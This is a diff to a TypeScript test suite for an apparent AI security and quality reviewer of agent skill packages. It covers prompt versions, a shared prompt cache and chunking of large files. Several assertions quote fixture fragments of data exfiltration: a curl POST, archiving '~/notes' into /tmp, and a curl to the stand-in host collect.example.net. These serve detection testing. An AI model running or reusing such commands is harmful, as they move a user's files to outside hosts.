@@ -196,7 +196,7 @@ describe('the model review of a unit', () => {
     );
     expect(user).toContain('3| curl -s -X POST');
     expect(user).toMatch(/^F1 S\d\d /m);
-    expect(seen[0]?.promptId).toBe('judge-security@1+judge-core@1');
+    expect(seen[0]?.promptId).toBe('judge-security@2+judge-core@2');
   });
 
   it('derives a different marker for different content and defuses fence-like runs in a file', async () => {
@@ -216,7 +216,7 @@ describe('the model review of a unit', () => {
   it('repairs a quote that is not at its cited lines with one more call showing the exact text', async () => {
     const wrong = { ...UPLOAD, start_line: 2, end_line: 2 };
     const { report, seen } = await judgeWith([reply([wrong]), reply([UPLOAD]), keepAll(1)]);
-    expect(seen[1]?.promptId).toBe('judge-security@1+judge-core@1/repair');
+    expect(seen[1]?.promptId).toBe('judge-security@2+judge-core@2/repair');
     expect(seen[1]?.user).toContain('tar czf /tmp/n.tgz ~/notes');
     expect(report.summary.grounding).toEqual({ verified: 0, repaired: 1, deleted: 0 });
     const f = report.units[0]?.findings.find((x) => x.origin === 'reviewer');
@@ -439,6 +439,63 @@ describe('large units', () => {
     expect(reviews[0]?.user).toContain('chunk: 1 of');
     expect(reviews[0]?.user).toContain('8501| curl -s https://collect.example.net/u');
     expect(reviews[0]?.user).toContain('DIGEST OF THE OTHER CHUNKS');
+  });
+});
+
+describe('what the reviewers of a unit share (the prompt cache)', () => {
+  const reviews = (seen: ModelRequest[]) => seen.filter((r) => r.schemaName === 'record_findings');
+
+  it('sends the unit as one prefix every reviewer shares, marked for the cache, security first; the role after it', async () => {
+    const empty = reply([]);
+    const { seen } = await judgeWith([empty, empty], { categories: ['security', 'quality'] });
+    const [sec, qual] = reviews(seen);
+    if (!sec || !qual) throw new Error('two reviewer calls expected');
+    expect([sec.promptId, qual.promptId]).toEqual([
+      'judge-security@2+judge-core@2',
+      'judge-quality@2+judge-core@2',
+    ]);
+    const n = sec.cachePrefixChars ?? 0;
+    expect(n).toBeGreaterThan(0);
+    expect(qual.cachePrefixChars).toBe(n);
+    expect(qual.user.slice(0, n)).toBe(sec.user.slice(0, n));
+    expect(qual.system).toBe(sec.system);
+    expect(qual.schema).toEqual(sec.schema);
+    expect(sec.user.slice(0, n)).toContain('3| curl -s -X POST');
+    expect(sec.user.slice(n)).toMatch(/^## GAVEL: REVIEW\nreview: security\ncodes you may report: S03/);
+    expect(qual.user.slice(n)).toMatch(/^## GAVEL: REVIEW\nreview: quality\ncodes you may report: Q01/);
+    expect(qual.user.slice(n)).toContain('Role: quality reviewer.');
+  });
+
+  it('a finding of another category in a reviewer reply is dropped (the schema is shared, the category is checked)', async () => {
+    const quality = { ...UPLOAD, code: 'Q09' };
+    const { report } = await judgeWith([reply([quality]), keepAll(0)], { explainDrops: true });
+    expect(report.units[0]?.findings.some((x) => x.origin === 'reviewer')).toBe(false);
+    expect(report.summary.drops).toEqual([expect.objectContaining({ code: 'Q09', reason: 'out-of-scope' })]);
+  });
+
+  it('asks the quality reviewer only about chunks holding instruction text or configuration', async () => {
+    const filler = Array.from(
+      { length: 9_000 },
+      (_, i) => `echo step ${i} of a long and boring build script`,
+    );
+    const big = { ...FILES, '/p/.claude/skills/sync/scripts/sync.sh': `${filler.join('\n')}\n` };
+    const empty = reply([]);
+    const { seen } = await judgeWith(Array(12).fill(empty), {
+      files: big,
+      categories: ['security', 'quality'],
+    });
+    const sec = reviews(seen).filter((r) => r.promptId.startsWith('judge-security'));
+    const qual = reviews(seen).filter((r) => r.promptId.startsWith('judge-quality'));
+    expect(sec.length).toBeGreaterThan(2);
+    // Chunk 1 holds SKILL.md (packed first): the only chunk quality judges, and the only shared prefix.
+    expect(qual).toHaveLength(1);
+    expect(qual[0]?.user).toContain('<<<BEGIN UNTRUSTED FILE .claude/skills/sync/SKILL.md lines 1-7');
+    expect(sec.map((r) => r.cachePrefixChars !== undefined)).toEqual(sec.map((_, i) => i === 0));
+  });
+
+  it('marks nothing for the cache when one reviewer sends the unit', async () => {
+    const { seen } = await judgeWith([reply([]), keepAll(0)]);
+    expect(reviews(seen).map((r) => r.cachePrefixChars)).toEqual([undefined]);
   });
 });
 
